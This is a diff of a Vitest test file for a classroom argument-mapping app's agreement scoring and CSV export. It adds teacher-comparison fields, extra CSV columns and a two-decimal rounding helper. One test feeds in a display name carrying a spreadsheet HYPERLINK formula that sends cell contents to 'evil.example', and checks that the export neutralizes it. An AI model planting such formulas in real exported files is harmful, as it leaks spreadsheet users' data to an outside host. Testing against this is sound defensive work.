@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { ArgumentMap, ArgumentUnit, Relation } from '@/lib/argument/types';
+import { hundredths } from './prf';
 import { CLASS_AGREEMENT_COLUMNS, classAgreement, classAgreementCsv, wordTokens, type ClassMember } from './classAgreement';
 
 const unit = (id: string, label: string, start: number, end: number): ArgumentUnit => ({ id, label, start, end, note: '' });
@@ -50,6 +51,9 @@ describe('classAgreement', () => {
       labelAgreeing: 1,
       relationsTyped: { f1: 0, matched: 0 },
       relationsUntyped: { f1: 1, matched: 1 },
+      // The teacher's reading, every token a word (no parts of speech): r1's 3 words, m1 shares
+      // 2 (2·2 ≥ 3, Dice 4/5); r2's 2 words, m2 shares 1 (2·1 ≥ 2, Dice 2/4) with another label.
+      teacher: { referenceUnits: 2, found: 2, boundariesDiffer: 2, labelDiffers: 1, meanDice: 0.65, referenceRelations: 1, relationsFound: 0, mainClaimFound: true },
     });
     expect(ren).toEqual({ userId: 'id-ren', name: 'ren', displayName: 'REN', mapId: null, submittedAt: null, units: null, relations: null, vsReference: null });
     // an opened but untouched map is not started; a submitted empty map is scored: nothing found of two units
@@ -126,11 +130,12 @@ describe('classAgreementCsv', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
     const lines = csv.slice(1).split('\r\n').slice(0, -1);
     expect(lines[0]).toBe(CLASS_AGREEMENT_COLUMNS.join(','));
-    expect(lines[1]).toBe('student,aki,"Aki, ""the first""",map-aki,2030-01-01T00:00:00.000Z,2,1,2,0,0,1,1,1,1,1,1,1,1,1,1,1,,');
-    expect(lines[2]).toBe('student,ren,REN,,,,,,,,,,,,,,,,,,,,');
-    expect(lines[3]).toBe('mean,,,,,,,,,,1,1,1,1,1,1,1,1,1,1,1,,');
+    expect(lines[1]).toBe('student,aki,"Aki, ""the first""",map-aki,2030-01-01T00:00:00.000Z,2,1,2,0,0,1,1,1,1,1,1,1,1,1,1,1,,,2,2,0,0,1,1,1');
+    expect(lines[2]).toBe('student,ren,REN,,,,,,,,,,,,,,,,,,,,,,,,,,,');
+    // the teacher's columns of the mean row are shares found
+    expect(lines[3]).toBe('mean,,,,,,,,,,1,1,1,1,1,1,1,1,1,1,1,,,,1,,,,,1');
     // one coder: alpha undefined → empty cell
-    expect(lines.slice(4)).toEqual(['alpha,,,,,,,,,,,,,,,,,,,,,claim,', 'alpha,,,,,,,,,,,,,,,,,,,,,(all),']);
+    expect(lines.slice(4)).toEqual(['alpha,,,,,,,,,,,,,,,,,,,,,claim,,,,,,,,', 'alpha,,,,,,,,,,,,,,,,,,,,,(all),,,,,,,,']);
     for (const line of [lines[2], ...lines.slice(3)]) expect(line.split(',')).toHaveLength(CLASS_AGREEMENT_COLUMNS.length);
   });
 
@@ -139,11 +144,13 @@ describe('classAgreementCsv', () => {
     const lines = csv.split('\r\n').slice(0, -1);
     expect(lines[0].startsWith('row,')).toBe(true);
     expect(lines.filter((l) => l.startsWith('mean,'))).toEqual([]);
-    expect(lines[1]).toBe('student,aki,AKI,map-aki,2030-01-01T00:00:00.000Z,2,1,,,,,,,,,,,,,,,,');
-    const alpha = lines.filter((l) => l.startsWith('alpha,')).map((l) => l.split(',').slice(-2));
-    expect(alpha.map(([label]) => label)).toEqual(['claim', 'evidence', '(all)']);
-    expect(Number(alpha[0][1])).toBeCloseTo(-8 / 77, 12);
-    expect(Number(alpha[1][1])).toBeCloseTo(-1 / 16, 12);
+    expect(lines[1]).toBe('student,aki,AKI,map-aki,2030-01-01T00:00:00.000Z,2,1,,,,,,,,,,,,,,,,,,,,,,,');
+    const col = (name: (typeof CLASS_AGREEMENT_COLUMNS)[number]) => CLASS_AGREEMENT_COLUMNS.indexOf(name);
+    const alpha = lines.filter((l) => l.startsWith('alpha,')).map((l) => l.split(','));
+    expect(alpha.map((cells) => cells[col('alpha_label')])).toEqual(['claim', 'evidence', '(all)']);
+    // −8/77 = −0.1039… and −1/16 = −0.0625, to two decimals (the JSON keeps full precision)
+    expect(alpha[0][col('alpha')]).toBe('-0.1');
+    expect(alpha[1][col('alpha')]).toBe('-0.06');
   });
 
   it('neutralizes a display name that is a formula, and keeps negative figures numbers', () => {
@@ -151,7 +158,13 @@ describe('classAgreementCsv', () => {
     const csv = classAgreementCsv(classAgreement({ reference: null, students: evil, tokens, labels: ['claim'] }), { bom: false });
     const lines = csv.split('\r\n');
     expect(lines[1].startsWith(`student,'-aki,"'=HYPERLINK(""http://evil.example/?""&A1,""Aki"")",`)).toBe(true);
-    expect(lines.find((l) => l.startsWith('alpha,'))!.split(',').at(-1)).toMatch(/^-0\.\d+$/);
+    expect(lines.find((l) => l.startsWith('alpha,'))!.split(',')[CLASS_AGREEMENT_COLUMNS.indexOf('alpha')]).toMatch(/^-0\.\d+$/);
   });
 });
 
+
+describe('hundredths (the figures of the CSV files)', () => {
+  it('rounds to two decimals, half away from zero (0.9666666666666667 → 0.97)', () => {
+    expect([0.9666666666666667, 2 / 3, 1 / 3, -5 / 28, 0.125, -0.004, 1, 0, null].map(hundredths)).toEqual([0.97, 0.67, 0.33, -0.18, 0.13, 0, 1, 0, null]);
+  });
+});
